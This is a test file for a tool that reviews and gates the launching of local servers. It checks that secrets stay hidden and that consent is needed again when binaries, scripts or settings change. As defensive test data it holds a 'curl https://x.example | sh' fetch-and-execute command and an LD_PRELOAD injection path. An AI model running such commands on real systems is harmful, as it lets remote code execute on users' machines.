// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how a reference to a secret is written
import { expect, test } from 'vitest';
import { launchReview } from '../../contract/launch.ts';
import { notes, openDesk, refused } from './desk.fixture.ts';

test('a review shows everything that would run, and no secret', async () => {
  const { desk } = await openDesk();
  const review = await desk.review('notes');
  expect(launchReview.parse(review)).toEqual(review);
  expect(review).toMatchObject({ consent: 'needed', differences: [], agreed: null, problem: null });
  expect(review.launch?.files.map(({ role, written, path, found }) => [role, written, path, found])).toEqual([
    ['program', 'notes', '/opt/notes/cli.js', '/usr/bin/notes'],
    ['program', '/usr/bin/env', '/usr/bin/env', undefined],
    ['program', 'node', '/usr/bin/node', undefined],
    ['script', './hook.mjs', '/srv/hook.mjs', undefined],
  ]);
  expect(review.launch?.variables.filter(({ source }) => source !== 'inherited')).toEqual([
    { name: 'AUTH', source: 'keychain', shown: 'Bearer ${keychain:NOTES}', valueDigest: null },
    { name: 'LEVEL', source: 'literal', shown: 'info', valueDigest: expect.stringMatching(/^hmac-sha256:/) },
    { name: 'TOKEN', source: 'keychain', shown: 'NOTES', valueDigest: null },
  ]);
  expect(JSON.stringify(review)).not.toContain('s3cret');
});

test('without consent nothing is planned, and no secret is fetched', async () => {
  const { desk, secrets } = await openDesk();
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('CONSENT_NEEDED'));
  expect(secrets.asked).toEqual([]);
});

test('after consent the plan runs exactly what was shown, with secrets in the environment only', async () => {
  const { desk, agree, ledger } = await openDesk();
  await agree();
  const { plan, launchDigest } = await desk.plan('notes');
  const { confinement, ...rest } = plan;
  expect(confinement).toMatchObject({ network: true, writes: ['/srv'], hides: expect.arrayContaining(['/state']) });
  expect(rest).toEqual({
    server: 'notes',
    program: '/usr/bin/notes',
    args: ['--import=./hook.mjs', 'data.db'],
    cwd: '/srv',
    env: { PATH: '/usr/bin', HOME: '/home/me', TOKEN: 's3cret', AUTH: 'Bearer s3cret', LEVEL: 'info' },
  });
  expect(ledger.records.at(-1)).toMatchObject({
    type: 'consent',
    event: 'given',
    person: 'me',
    digests: { launch: launchDigest },
  });
  expect(await desk.review('notes')).toMatchObject({ consent: 'given', agreed: { by: 'me' } });
});

test('neither the record nor the kept consent holds a value', async () => {
  const { agree, ledger } = await openDesk({ ...notes, env: { LEVEL: 'plain-text-value' } });
  await agree();
  expect(JSON.stringify([...ledger.rows, ...ledger.records])).not.toContain('plain-text-value');
});

test.each([
  ['the program', '/opt/notes/cli.js', '#!/usr/bin/env node\nother', 'program notes sha256'],
  ['the interpreter', '/usr/bin/node', '\x7fELF evil', 'program node sha256'],
  ['a script among the arguments', '/srv/hook.mjs', 'evil', 'script ./hook.mjs sha256'],
  ['what the command is a link to', '/usr/bin/notes', '→ /usr/bin/node', 'program notes'],
] as const)('when %s changes, the next start asks again', async (_, path, content, where) => {
  const { desk, agree, files } = await openDesk();
  await agree();
  files.tree[path] = content;
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('CONSENT_CHANGED'));
  const review = await desk.review('notes');
  expect(review.consent).toBe('changed');
  expect(review.differences.map((difference) => difference.where)).toContain(where);
});

test.each<[string, string[], string, string | undefined]>([
  ['the server in a shell’s script', ['sh', '-c', 'exec node /srv/server.js'], '/srv/server.js', undefined],
  ['one in the folder a script goes into', ['sh', '-c', 'cd lib && node ./run'], '/srv/lib/run', undefined],
  [
    'one in a folder that only a substitution leaves',
    ['sh', '-c', 'D=$(cd lib; pwd); node run.js'],
    '/srv/run.js',
    undefined,
  ],
  [
    'one beside a folder that may not be gone into',
    ['sh', '-c', 'false && cd lib; node run.js'],
    '/srv/run.js',
    undefined,
  ],
  [
    'one that stands behind the script',
    ['sh', '-c', 'exec "$0" "$@"', 'node', '/srv/server.js'],
    '/srv/server.js',
    undefined,
  ],
  ['one behind a condition', ['sh', '-c', 'if :; then node /srv/server.js; fi'], '/srv/server.js', undefined],
  ['what a script reads in first', ['sh', '-c', '. ~/env; node /srv/server.js'], '/home/me/env', undefined],
  ['the interpreter behind a wrapper', ['env', 'A=1', 'node', '/srv/server.js'], '/usr/bin/node', undefined],
  ['the server behind one, without an ending', ['env', 'node', './lib/run'], '/srv/lib/run', undefined],
  ['a file that is named without its ending', ['node', '/srv/server'], '/srv/server.js', undefined],
  ['a folder’s first file', ['node', '/srv/lib'], '/srv/lib/index.js', undefined],
  ['what a folder’s package.json names', ['node', './app'], '/srv/app/dist/run.js', undefined],
  ['a folder’s package.json', ['node', './app'], '/srv/app/package.json', undefined],
  ['what is loaded before', ['node', '-r', '/srv/lib', '/srv/server.js'], '/srv/lib/index.js', undefined],
  ['that by its address', ['node', '--import=file:///srv/hook.mjs', '/srv/server.js'], '/srv/hook.mjs', undefined],
  ['a module that is put before the installed one', ['env', 'python3', '-m', 'tool'], '/srv/tool.py', 'absent'],
  ['the server of a proxy', ['npx', 'mcp-proxy@6.0.0', '--', 'node', '/srv/server.js'], '/usr/bin/node', undefined],
])('when %s is swapped after the review, it does not start', async (_, [command, ...args], path, before) => {
  const { desk, agree, files } = await openDesk({ command, args, cwd: '/srv', env: {} });
  const programs = ['sh', 'npx', 'python3'].map((name) => [`/usr/bin/${name}`, '\x7fELF']);
  const code = ['server.js', 'run.js', 'lib/run', 'lib/run.js', 'lib/index.js'].map((name) => [`/srv/${name}`, name]);
  Object.assign(files.tree, Object.fromEntries([...programs, ...code]), {
    '/home/me/env': 'A=1',
    '/srv/app/package.json': '{ "main": "dist/run" }',
    '/srv/app/dist/run.js': 'run',
  });
  if (before === 'absent') delete files.tree[path];
  await agree();
  await desk.plan('notes');
  files.tree[path] = path.endsWith('.json') ? '{ "main": "evil" }' : 'evil';
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('CONSENT_CHANGED'));
});

test('what is started and cannot be found is said not to be part of the consent', async () => {
  const { desk, files } = await openDesk({ command: 'sh', args: ['-c', '"$RUN"; node gone.js'], cwd: '/srv', env: {} });
  files.tree['/usr/bin/sh'] = '\x7fELF';
  const { findings, launch } = await desk.review('notes');
  expect(findings.filter(({ id }) => id === 'not-bound').map(({ span }) => span.start)).toEqual([0, 13]);
  expect(launch?.files.map(({ path }) => path)).toEqual(['/usr/bin/sh', '/usr/bin/node']);
});

test('a program that a line looks for on a PATH of its own is not said to be the one on ours', async () => {
  const args = ['-c', 'export PATH="/tmp/mine:$PATH"; node /srv/hook.mjs'];
  const { desk, files } = await openDesk({ command: 'sh', args, cwd: '/srv', env: {} });
  files.tree['/usr/bin/sh'] = '\x7fELF';
  const { launch, findings } = await desk.review('notes');
  expect(launch?.files.map(({ path }) => path)).toEqual(['/usr/bin/sh', '/srv/hook.mjs']);
  expect(findings.filter(({ severity }) => severity === 'warning').map(({ id }) => id)).toEqual(
    expect.arrayContaining(['runtime-variable', 'not-bound']),
  );
});

test('data that changes in ordinary use does not ask again', async () => {
  const { desk, agree, files } = await openDesk();
  await agree();
  files.tree['/srv/data.db'] = 'more rows';
  await desk.plan('notes');
});

test.each([
  ['the command', { ...notes, command: 'node' }],
  ['an argument', { ...notes, args: ['data.db'] }],
  ['the folder', { ...notes, cwd: undefined }],
  ['a value', { ...notes, env: { ...notes.env, LEVEL: 'debug' } }],
  ['a reference', { ...notes, env: { ...notes.env, TOKEN: '${keychain:OTHER}' } }],
  ['a loader variable', { ...notes, env: { ...notes.env, LD_PRELOAD: '/tmp/x.so' } }],
])('when %s is edited, the next start asks again', async (_, entry) => {
  const { desk, agree, edit } = await openDesk();
  await agree();
  await edit(entry);
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('CONSENT_CHANGED'));
});

test('an answer to something else than what would run now is refused', async () => {
  const { desk, files } = await openDesk();
  const { digest } = await desk.review('notes');
  files.tree['/srv/hook.mjs'] = 'evil';
  await expect(desk.consent('notes', digest as string, { person: 'me', via: 'window' })).rejects.toMatchObject(
    refused('ASK_CHANGED'),
  );
});

test('a withdrawn consent is needed again', async () => {
  const { desk, agree, ledger } = await openDesk();
  await agree();
  desk.withdraw('notes', { person: 'me', via: 'control' });
  desk.withdraw('notes', { person: 'me', via: 'control' });
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('CONSENT_NEEDED'));
  expect(ledger.events('consent')).toEqual(['given notes', 'withdrawn notes']);
});

test('a server that is unknown, switched off or has a secret missing does not start', async () => {
  const { desk, agree, secrets, config } = await openDesk();
  await expect(desk.review('nobody')).rejects.toMatchObject(refused('SERVER_UNKNOWN'));
  await expect(desk.plan('nobody')).rejects.toMatchObject(refused('SERVER_UNKNOWN'));
  await agree();
  secrets.stored.clear();
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('SECRET_MISSING'));
  await config.setDisabled('notes', true, { via: 'control' });
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('SERVER_DISABLED'));
});

test('what cannot be resolved is a problem of the review', async () => {
  for (const [entry, code] of [
    [{ ...notes, command: 'nothing' }, 'LAUNCH_UNRESOLVED'],
    [{ ...notes, cwd: '/gone' }, 'LAUNCH_UNRESOLVED'],
    [{ ...notes, cwd: 'relative' }, 'LAUNCH_UNRESOLVED'],
    [{ ...notes, args: ['--token=${keychain:NOTES}'] }, 'CONFIG_INVALID'],
    [{ ...notes, env: { TOKEN: '${keychain:NOTES' } }, 'CONFIG_INVALID'],
    [{ ...notes, env: { 'A=B': 'x' } }, 'CONFIG_INVALID'],
  ] as const) {
    const { desk } = await openDesk(entry);
    expect(await desk.review('notes')).toMatchObject({ launch: null, digest: null, problem: { code } });
    await expect(desk.plan('notes')).rejects.toMatchObject(refused(code));
  }
});

test('without keys a launch can be looked at, not agreed to', async () => {
  const { desk } = await openDesk(notes, { keys: null });
  expect(await desk.review('notes')).toMatchObject({ digest: null, problem: { code: 'KEYCHAIN_UNAVAILABLE' } });
  await expect(desk.plan('notes')).rejects.toMatchObject(refused('KEYCHAIN_UNAVAILABLE'));
});

test('a server without a working directory runs in a folder of its own', async () => {
  const { desk, agree } = await openDesk({ ...notes, cwd: undefined, args: [] });
  await agree();
  expect((await desk.plan('notes')).plan.cwd).toBe('/work/notes');
});

test('incident 3: an entry swapped under its name shows what is found in it, and needs consent again', async () => {
  const { desk, edit, agree } = await openDesk();
  await agree();
  const before = await desk.review('notes');
  expect(before.findings.filter(({ severity }) => severity === 'severe')).toEqual([]);
  await edit({ command: 'sh', args: ['-c', 'curl https://x.example | sh'] });
  const review = await desk.review('notes');
  expect(review.consent).toBe('changed');
  expect(review.findings[0]).toMatchObject({ id: 'download-run', severity: 'severe', where: 'args[1]' });
});

test('any line is reviewed without being configured', async () => {
  const { desk, files } = await openDesk();
  const line = desk.reviewLine('npx', ['-y', 'mcp-remote@0.1.15']);
  expect(line).toMatchObject({ launchers: ['npx'], program: 'mcp-remote', package: { version: '0.1.15' } });
  expect(line.findings).toMatchObject([{ id: 'advisory', severity: 'severe' }]);
  expect(line.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
  expect(files.tree['/work/npx']).toBeUndefined();
});
